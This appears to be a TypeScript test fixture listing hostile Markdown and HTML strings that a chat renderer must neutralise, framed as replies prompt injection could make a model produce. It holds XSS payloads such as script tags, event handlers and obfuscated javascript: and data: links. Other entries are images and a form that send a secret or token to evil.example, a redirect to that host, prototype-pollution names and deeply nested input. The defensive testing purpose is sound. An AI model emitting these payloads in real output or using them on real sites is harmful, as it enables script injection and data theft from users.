// Replies with hostile Markdown, as prompt injection could make a model write it.

/** Pairs of name and text. A renderer may not run, load or open anything in them. */
export const hostileMarkdown: readonly (readonly [name: string, text: string])[] = [
  ['a script', '<script>window.attacked = 1</script>\n\ntext <script>window.attacked = 1</script>'],
  [
    'an image with a handler',
    '<img src=x onerror="window.attacked = 1">\n\ntext <img src=x onerror=window.attacked=1>',
  ],
  ['an SVG', '<svg onload="window.attacked = 1"><script>window.attacked = 1</script></svg>'],
  ['a frame', '<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>'],
  ['a form', '<form action="https://evil.example"><input name="token" autofocus onfocus="window.attacked = 1"></form>'],
  ['a style', '<style>* { display: none }</style>\n\n<div style="position: fixed; inset: 0">x</div>'],
  [
    'a base and a refresh',
    '<base href="https://evil.example">\n<meta http-equiv="refresh" content="0; url=https://evil.example">',
  ],
  [
    'a javascript link',
    '[a](javascript:window.attacked=1) [b](JaVaScRiPt:window.attacked=1) <javascript:window.attacked=1>',
  ],
  [
    'a hidden javascript link',
    '[a](java&#10;script:window.attacked=1) [b](&#x6A;avascript:window.attacked=1) [c](\u0001javascript:x)',
  ],
  ['a javascript definition', '[a][x]\n\n[x]: javascript:window.attacked=1 "t"\n\n![b][x]'],
  ['a data link', '[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml,<svg onload=window.attacked=1>)'],
  [
    'a picture that spies',
    '![a](https://evil.example/?secret) [![b](https://evil.example/b)](javascript:x) ![c](//evil.example/c)',
  ],
  [
    'a link with attributes',
    '[a](https://a.example "x\\" onmouseover=\\"window.attacked=1") <a href="https://a.example" onclick="x">y</a>',
  ],
  ['a link of this page', '[a](/api/ai-chat/sessions) [b](#top) [c](?x=1) [d](c/1)'],
  ['a language with markup', '```"><img src=x onerror=window.attacked=1>\nx\n```\n\n- ```js" onload="x\n  y\n  ```'],
  ['code with markup', '```html\n<script>window.attacked = 1</script>\n```\n\n`<img src=x onerror=window.attacked=1>`'],
  ['a table with markup', '| <img src=x onerror=window.attacked=1> |\n|:-:|\n| [x](javascript:y) <script>z</script> |'],
  [
    'footnotes that take names',
    '[^__proto__]\n\n[^__proto__]: <a id="root" name="root">x</a>\n\n[__proto__]: javascript:x\n\n[__proto__]',
  ],
  [
    'an unclosed comment',
    '<!-- --!> <script>window.attacked = 1</script>\n\n<!-- <img src=x onerror=window.attacked=1>',
  ],
  ['deep quotes', `${'>'.repeat(300)} deep <script>window.attacked = 1</script>`],
  ['deep lists', Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- ${depth}`).join('\n')],
  ['endless marks', `${'*'.repeat(500)}a${'_'.repeat(500)}${'['.repeat(500)}${'`'.repeat(301)}`],
];
